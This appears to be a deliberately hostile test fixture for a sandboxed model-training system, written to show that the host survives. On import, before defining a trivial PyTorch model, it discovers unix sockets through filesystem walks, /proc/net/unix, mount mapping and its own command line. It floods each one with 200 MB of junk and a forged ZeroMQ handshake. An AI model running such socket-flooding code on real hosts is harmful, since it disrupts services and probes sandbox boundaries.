"""Hostile: attacks every unix socket it can find, then behaves as a normal model.

It walks the filesystem, reads /proc/net/unix (which shows host-side names)
and maps those through /proc/self/mountinfo into its own mounts (the job
directory cannot be listed, but its socket can be guessed, and the worker's
own command line names it); on each socket it sends
(a) raw garbage followed by 200 MB of junk, and (b) a well-formed ZeroMQ
(ZMTP 3.0) handshake for a PAIR peer followed by one frame that claims 200 MB.
It prints what it did as one ``ATTACK {json}`` line on stdout, so the test can
check that the attack really ran. The job must still pass: the host survives
and the legitimate channel keeps working.
"""

import json
import os
import socket
import stat
import struct
import time

import torch
from torch import nn

_JUNK_BYTES = 200 * 1024 * 1024
_CHUNK = b"\xfe" * (1 << 20)
_SKIP = {"/proc", "/sys"}


def _walk_sockets(top: str = "/", budget_s: float = 20.0) -> set:
    found, stack, deadline = set(), [top], time.monotonic() + budget_s
    while stack and time.monotonic() < deadline:
        path = stack.pop()
        try:
            entries = list(os.scandir(path))
        except OSError:
            continue
        for entry in entries:
            if entry.is_symlink():
                continue
            if entry.is_dir():
                if entry.path not in _SKIP:
                    stack.append(entry.path)
            elif not entry.is_file():  # d_type says neither: maybe a socket
                try:
                    if stat.S_ISSOCK(entry.stat(follow_symlinks=False).st_mode):
                        found.add(entry.path)
                except OSError:
                    pass
    return found


def _proc_net_unix() -> set:
    found = set()
    try:
        with open("/proc/net/unix") as f:
            next(f)
            for line in f:
                parts = line.split()
                if len(parts) >= 8:
                    found.add(parts[7])  # "@name" is an abstract socket
    except OSError:
        pass
    return found


def _through_mounts(paths: set) -> set:
    """Host-side socket names (as /proc/net/unix shows them) mapped into our mount points."""
    mounts = []
    try:
        with open("/proc/self/mountinfo") as f:
            mounts = [(line.split()[3], line.split()[4]) for line in f]
    except OSError:
        pass
    found = set()
    for path in paths:
        for root, point in mounts:
            if root != "/" and path.startswith(root + "/"):
                found.add(point + path[len(root):])
            found.add(os.path.join(point, os.path.basename(path)))  # a guess: same name, any mount
    return {p for p in found if os.path.exists(p)}


def _own_socket() -> set:
    """The worker's own argument names its socket: the most direct guess of all."""
    try:
        with open("/proc/self/cmdline", "rb") as f:
            return {a.decode() for a in f.read().split(b"\0") if a.endswith(b".sock")}
    except OSError:
        return set()


def _address(path: str) -> str | bytes:
    return b"\0" + path[1:].encode() if path.startswith("@") else path


def _zmtp_handshake() -> bytes:
    greeting = b"\xff" + b"\0" * 8 + b"\x7f" + b"\x03\x00" + b"NULL".ljust(20, b"\0") + b"\0" + b"\0" * 31
    ready = b"\x05READY" + b"\x0bSocket-Type" + struct.pack(">I", 4) + b"PAIR"
    return greeting + b"\x04" + bytes([len(ready)]) + ready


def _flood(path: str, prefix: bytes) -> dict:
    sent, error = 0, ""
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(2.0)
            s.connect(_address(path))
            s.sendall(prefix)
            while sent < _JUNK_BYTES:
                s.sendall(_CHUNK)
                sent += len(_CHUNK)
    except OSError as exc:
        error = type(exc).__name__
    return {"mb": sent >> 20, "err": error}


def _attack() -> dict:
    report = {}
    listed = _proc_net_unix()
    for path in sorted(_walk_sockets() | listed | _through_mounts(listed) | _own_socket()):
        garbage = b"GET / HTTP/1.0\r\n\r\n" + os.urandom(4096)
        long_frame = b"\x02" + struct.pack(">Q", _JUNK_BYTES)  # ZMTP "long" message header
        report[path] = {"raw": _flood(path, garbage), "zmtp": _flood(path, _zmtp_handshake() + long_frame)}
    return report


print("ATTACK " + json.dumps(_attack(), separators=(",", ":")), flush=True)


class Net(nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.fc = nn.Linear(64, 10)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.fc(x.flatten(1))
